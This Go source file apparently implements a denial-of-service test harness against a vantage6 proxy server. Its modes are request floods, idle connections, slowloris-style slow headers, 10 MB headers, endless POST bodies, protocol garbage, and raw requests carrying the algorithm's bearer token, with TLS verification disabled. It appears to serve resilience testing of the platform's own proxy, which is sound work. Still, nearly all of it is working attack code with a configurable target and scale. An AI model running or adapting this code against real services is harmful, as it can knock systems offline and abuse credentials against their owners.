package main

import (
	"bufio"
	"crypto/tls"
	"fmt"
	"io"
	"net"
	"os"
	"strings"
	"sync"
	"time"
)

// attack(kind="flood", address="proxyserver:8080", seconds=5, connections=100, tls=false): a malicious algorithm, for a bounded
// time and with a bounded number of connections. Answers how often each outcome was seen.
//
//	flood    requests as fast as they are answered        idle     connections that never say anything
//	slow     a request's head, a byte a second            headers  a request with a head of 10 MB
//	body     a request whose body never ends              garbage  bytes that are no protocol at all
//	raw      each request of "texts", sent once as it is, but for {token}
//
// Flood, slow and headers come with the algorithm's own token, so that what is behind the proxy's look at it is attacked too. An
// endless body comes without: with it the server itself would be the one that takes it.
func attack(t *task) error {
	kinds := map[string]func(net.Conn, time.Time) string{
		"flood": flood, "idle": idle, "slow": slow, "headers": headers, "body": body, "garbage": garbage,
	}
	end := time.Now().Add(time.Duration(t.number("seconds", 5) * float64(time.Second)))
	kind := t.text("kind", "flood")
	if kind == "raw" {
		return t.answer(raw(t, end))
	}
	attack, known := kinds[kind]
	if !known {
		return fmt.Errorf("there is no attack %q", kind)
	}
	outcomes := map[string]int{}
	var lock sync.Mutex
	var all sync.WaitGroup
	for range int(t.number("connections", 100)) {
		all.Add(1)
		go func() {
			defer all.Done()
			for time.Now().Before(end) {
				outcome := once(t, attack, end)
				lock.Lock()
				outcomes[outcome]++
				lock.Unlock()
				time.Sleep(10 * time.Millisecond)
			}
		}()
	}
	all.Wait()
	return t.answer(outcomes)
}

func once(t *task, attack func(net.Conn, time.Time) string, end time.Time) string {
	connection, err := open(t, end)
	if err != nil {
		return "no connection: " + reason(err)
	}
	defer connection.Close()
	return attack(connection, end)
}

func open(t *task, end time.Time) (net.Conn, error) {
	connection, err := net.DialTimeout("tcp", t.text("address", "proxyserver:8080"), 3*time.Second)
	if err != nil {
		return nil, err
	}
	connection.SetDeadline(end.Add(time.Second))
	if t.text("tls", "false") == "true" {
		// Whoever attacks doesn't care whom he talks to.
		connection = tls.Client(connection, &tls.Config{InsecureSkipVerify: true})
	}
	return connection, nil
}

// token is the algorithm's own, from the file that vantage6 names.
var token = sync.OnceValue(func() string {
	text, _ := os.ReadFile(variable("TOKEN_FILE"))
	return strings.TrimSpace(string(text))
})

// raw sends each request of a list on a connection of its own, with the algorithm's token in the place of {token}; what comes back, up
// to 2 kB of it, or why nothing does.
func raw(t *task, end time.Time) []string {
	answers := []string{}
	texts, _ := t.Kwargs["texts"].([]any)
	for _, text := range texts {
		connection, err := open(t, end)
		if err != nil {
			answers = append(answers, "no connection: "+reason(err))
			continue
		}
		connection.SetDeadline(time.Now().Add(3 * time.Second))
		io.WriteString(connection, strings.ReplaceAll(fmt.Sprint(text), "{token}", token()))
		answer, err := io.ReadAll(io.LimitReader(connection, 2048))
		connection.Close()
		if len(answer) == 0 && err != nil {
			answer = []byte("nothing: " + reason(err))
		}
		answers = append(answers, string(answer))
	}
	return answers
}

// request is all of a head but its end.
func request() string {
	return "GET /version HTTP/1.1\r\nHost: proxyserver\r\nAuthorization: Bearer " + token() + "\r\n"
}

func flood(connection net.Conn, end time.Time) string {
	answers := bufio.NewReader(connection)
	last := "nothing"
	for time.Now().Before(end) {
		if _, err := io.WriteString(connection, request()+"\r\n"); err != nil {
			return last + ", then " + reason(err)
		}
		line, err := answers.ReadString('\n')
		if err != nil {
			return last + ", then " + reason(err)
		}
		last = strings.TrimSpace(line)
		for line != "\r\n" && err == nil {
			line, err = answers.ReadString('\n')
		}
		answers.Discard(answers.Buffered())
	}
	return last
}

func idle(connection net.Conn, _ time.Time) string { return ending(connection) }

func slow(connection net.Conn, end time.Time) string {
	for _, letter := range []byte(request() + "X-Slow: " + strings.Repeat("x", 3600)) {
		if _, err := connection.Write([]byte{letter}); err != nil || time.Now().After(end) {
			return ending(connection)
		}
		time.Sleep(time.Second)
	}
	return "to its end"
}

func headers(connection net.Conn, _ time.Time) string {
	if _, err := io.WriteString(connection, request()); err != nil {
		return reason(err)
	}
	line := "X-Large: " + strings.Repeat("x", 8000) + "\r\n"
	for sent := 0; sent < 10_000_000; sent += len(line) {
		if _, err := io.WriteString(connection, line); err != nil {
			break
		}
	}
	io.WriteString(connection, "\r\n")
	return ending(connection)
}

func body(connection net.Conn, end time.Time) string {
	io.WriteString(connection, "POST /task HTTP/1.1\r\nHost: proxyserver\r\nContent-Type: application/json\r\nContent-Length: 99999999999\r\n\r\n")
	block := []byte(strings.Repeat(`[{"input":"`, 6000))
	for time.Now().Before(end) {
		if _, err := connection.Write(block); err != nil {
			break
		}
	}
	return ending(connection)
}

func garbage(connection net.Conn, _ time.Time) string {
	connection.Write([]byte(strings.Repeat("\x16\x03\x01\xff\xff\x00GARBAGE\r\n", 2000)))
	return ending(connection)
}

// ending is the first line that comes back, or how the connection ends.
func ending(connection net.Conn) string {
	line, err := bufio.NewReader(io.LimitReader(connection, 4096)).ReadString('\n')
	if line != "" {
		if text := strings.TrimSpace(line); strings.HasPrefix(text, "HTTP/") {
			return text
		}
		return "something"
	}
	return reason(err)
}

func reason(err error) string {
	for text, short := range map[string]string{
		"reset": "reset", "refused": "refused", "timeout": "timeout", "EOF": "closed", "broken pipe": "closed", "tls": "tls alert",
	} {
		if strings.Contains(err.Error(), text) {
			return short
		}
	}
	return err.Error()
}
